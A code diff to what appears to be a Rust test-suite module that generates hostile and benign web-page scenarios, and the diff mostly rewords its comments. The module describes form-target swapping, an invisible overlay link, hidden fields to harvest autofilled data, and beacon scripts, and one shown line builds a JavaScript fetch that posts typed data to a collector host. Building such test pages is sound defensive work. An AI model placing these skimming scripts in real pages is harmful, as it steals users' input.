@@ -1,4 +1,4 @@
-//! What a page does by itself.
+//! Attacks by the page's own scripts and forms.
 
 use crate::html::escape;
 use crate::suite::hosts;
@@ -12,7 +12,7 @@ pub(super) const LABELS: [&str; 2] = [
 pub(super) const LABELS_BENIGN: [&str; 2] =
     ["A few words for the card (optional)", "Engraving, up to 20 letters"];
 
-/// A form of the shop whose target changes when somebody types into it.
+/// A form of the shop whose target changes when the user types into it.
 pub(super) fn swapped_form(scenario: &Scenario, label: &str) -> String {
     let script = if scenario.hostile {
         format!(
@@ -31,7 +31,7 @@ pub(super) fn swapped_form(scenario: &Scenario, label: &str) -> String {
     )
 }
 
-/// A form whose button lies under a link that is not seen.
+/// A form whose button lies under an invisible link.
 pub(super) fn overlay(scenario: &Scenario, label: &str) -> String {
     let over = if scenario.hostile {
         format!(
@@ -53,7 +53,7 @@ pub(super) fn overlay(scenario: &Scenario, label: &str) -> String {
     )
 }
 
-/// Fields that nobody sees, for whatever fills in everything that has a name.
+/// Invisible fields, for a filler that fills every field with a known name.
 pub(super) fn harvest(hostile: bool) -> String {
     if !hostile {
         return String::new();
@@ -64,7 +64,8 @@ pub(super) fn harvest(hostile: bool) -> String {
         .to_owned()
 }
 
-/// Sends on whatever is typed, by one of the ways out that a page has. The twin's script counts letters.
+/// A script that sends typed text to the attacker over one of the channels that a page has. The benign counterpart's
+/// script counts letters.
 pub(super) fn beacon(scenario: &Scenario, variant: u64) -> String {
     let to = scenario.url_at(hosts::COLLECTOR, "beacon");
     let out = match (scenario.hostile, variant) {
@@ -86,7 +87,8 @@ pub(super) fn beacon(scenario: &Scenario, variant: u64) -> String {
     )
 }
 
-/// Takes over what a page's own scripts and a careless guard would rely on. The twin's script names what is there.
+/// A script that replaces functions on which a page's own scripts and a careless guard would rely. The benign
+/// counterpart's script only reads their names.
 pub(super) fn patches(scenario: &Scenario, variant: u64) -> String {
     let to = scenario.url_at(hosts::COLLECTOR, "patched");
     let send = format!("(d=>fetch('{to}',{{method:'POST',mode:'no-cors',body:String(d)}}).catch(()=>0))");
